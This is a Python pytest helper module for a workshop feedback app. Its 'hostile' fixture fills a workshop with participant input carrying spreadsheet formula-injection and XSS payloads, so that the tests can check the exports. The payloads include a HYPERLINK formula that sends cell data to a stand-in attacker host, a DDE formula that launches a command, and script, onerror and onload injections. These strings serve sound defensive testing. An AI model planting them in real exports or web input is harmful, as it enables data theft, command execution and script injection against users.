"""Helpers for the workshop package's tests on the store (no app): a workshop, joining,
answering, reading rows, hostile input. Its fixtures come through ``pytest_plugins``; it holds no
assertions (PYTEST_DONT_REWRITE)."""

from __future__ import annotations

import pytest
from sqlalchemy import select

from csc_dash import workshop as fb

#: Row counts of an empty store (every table the app writes).
EMPTY = {
    "workshops": 0, "participants": 0, "responses": 0, "statements": 0, "votes": 0,
    "sign_in_failures": 0, "rejoin_attempts": 0, "readiness_answers": 0,
    "decisions": 0, "decision_links": 0, "decision_versions": 0,
}  # fmt: skip


def join(engine, workshop, name, role="Family member"):
    return fb.join_workshop(
        engine,
        code=workshop.code,
        pseudonym=name,
        role_tag=role,
        client_token=fb.new_client_token(),
    )


def answer(engine, person, question_id="reaction", value="unsure", page="tradeoffs", **state):
    return fb.save_response(
        engine,
        participant_id=person.id,
        page=page,
        question_id=question_id,
        value=value,
        screen_state=state or {"threshold": 0.3},
        client_token=fb.new_client_token(),
    )


def rows_of(engine, table, **where):
    query = select(table)
    for column, value in where.items():
        query = query.where(table.c[column] == value)
    with engine.connect() as conn:
        return conn.execute(query).all()


@pytest.fixture
def workshop(engine):
    return fb.create_workshop(engine, title="Autumn session", created_by="ann")


# -- what people typed, at its most hostile (for the exports) -------------------------------------

DANGEROUS_STARTS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =cmd|' /C calc'!A0",
    "\uff1d1+1",
]
XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea><svg onload=alert(1)>",
    "javascript:alert(1)",
    "&lt;already&gt; & 'quotes'",
]


def dangerous(cell: str) -> bool:
    return cell[:1] in DANGEROUS_STARTS or cell.lstrip()[:1] in DANGEROUS_STARTS


@pytest.fixture
def hostile(engine):
    """A workshop whose participants typed formulas and markup everywhere they could."""
    workshop = fb.create_workshop(engine, title="<b>Title</b> =1+1", created_by="ann")
    people = []
    for i, payload in enumerate(FORMULAS + XSS):
        person = fb.join_workshop(
            engine,
            code=workshop.code,
            pseudonym=f"{payload[:30]}{i}" if payload.strip() else f"p{i}",
            role_tag=fb.ROLE_TAGS[i % len(fb.ROLE_TAGS)],
            client_token=fb.new_client_token(),
        )
        people.append(person)
        for question_id, value in (
            ("reaction", {"reaction": "unsure", "reason": payload}),
            ("should_reasons", payload),
            ("should_use", 1 + i % 5),
            ("accepted_threshold", None if i % 3 == 0 else round(0.05 * (i % 20), 2)),
        ):
            fb.save_response(
                engine,
                participant_id=person.id,
                page="tradeoffs" if question_id == "reaction" else "your_views",
                question_id=question_id,
                value=value,
                screen_state={"note": payload, "threshold": 0.3},
                client_token=fb.new_client_token(),
            )
    proposed = fb.add_statement(
        engine,
        workshop_id=workshop.id,
        text=XSS[0] + " " + FORMULAS[0],
        source="participant",
        proposed_by=people[0].id,
        approved=True,
    )
    for person in people:
        fb.vote(
            engine,
            participant_id=person.id,
            statement_id=proposed.id,
            choice="agree" if person.id % 2 else "disagree",
            client_token=fb.new_client_token(),
        )
    return workshop, people
